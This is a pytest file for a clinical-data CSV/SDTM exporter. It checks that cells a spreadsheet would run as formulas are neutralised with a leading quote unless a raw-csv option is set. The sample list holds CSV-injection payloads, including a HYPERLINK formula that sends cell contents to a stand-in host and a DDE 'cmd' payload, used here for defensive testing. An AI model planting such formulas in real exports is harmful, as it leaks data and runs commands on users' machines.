"""CSV injection (issue 13, item 7): text a spreadsheet would run as a formula is neutralized in every CSV we write."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest

from adapter.export.csvcell import safe_cell
from adapter.export.exporter import export
from adapter.export.sdtm.model import Dataset
from adapter.export.sdtm.xpt import write_csv

FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_gets_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "+1.5e3", "-0.25", "12", "plain text", "", "a=b", "2020-07-01", "'quoted"])
def test_numbers_and_ordinary_text_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def _pulled(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True)
    observation = {"resourceType": "Observation", "id": "o1", "status": "final", "code": {"text": "note"},
                   "subject": {"reference": "Patient/p1"}, "valueString": text}  # fmt: skip
    (folder / "Observation.ndjson").write_text(json.dumps(observation) + "\n", encoding="utf-8")
    return folder


def _cells(path: Path, column: str) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [row[column] for row in csv.DictReader(handle)]


@pytest.mark.parametrize(("raw", "expected"), [(False, "'=1+2"), (True, "=1+2")])
def test_table_export_neutralizes_unless_raw_csv(tmp_path: Path, raw: bool, expected: str) -> None:
    export(_pulled(tmp_path / "in", "=1+2"), tmp_path / "out", "csv", raw_csv=raw)
    assert _cells(tmp_path / "out" / "Observation.csv", "value_string") == [expected]


@pytest.mark.parametrize(("raw", "expected"), [(False, "'@SUM(1,2)"), (True, "@SUM(1,2)")])
def test_sdtm_csv_neutralizes_unless_raw(tmp_path: Path, raw: bool, expected: str) -> None:
    row = {"USUBJID": "S1", "LBORRES": "@SUM(1,2)", "LBSTRESN": -1.5}
    dataset = cast(Dataset, SimpleNamespace(spec=SimpleNamespace(names=list(row)), rows=[row]))
    write_csv(dataset, tmp_path / "lb.csv", raw=raw)
    assert _cells(tmp_path / "lb.csv", "LBORRES") == [expected]
    assert _cells(tmp_path / "lb.csv", "LBSTRESN") == ["-1.5"]


def test_the_cli_takes_raw_csv(tmp_path: Path) -> None:
    from adapter.cli import main

    folder = _pulled(tmp_path / "in", "-cmd")
    assert main(["export", str(folder), "--format", "csv", "-o", str(tmp_path / "safe")]) == 0
    assert main(["export", str(folder), "--format", "csv", "-o", str(tmp_path / "raw"), "--raw-csv"]) == 0
    assert _cells(tmp_path / "safe" / "Observation.csv", "value_string") == ["'-cmd"]
    assert _cells(tmp_path / "raw" / "Observation.csv", "value_string") == ["-cmd"]
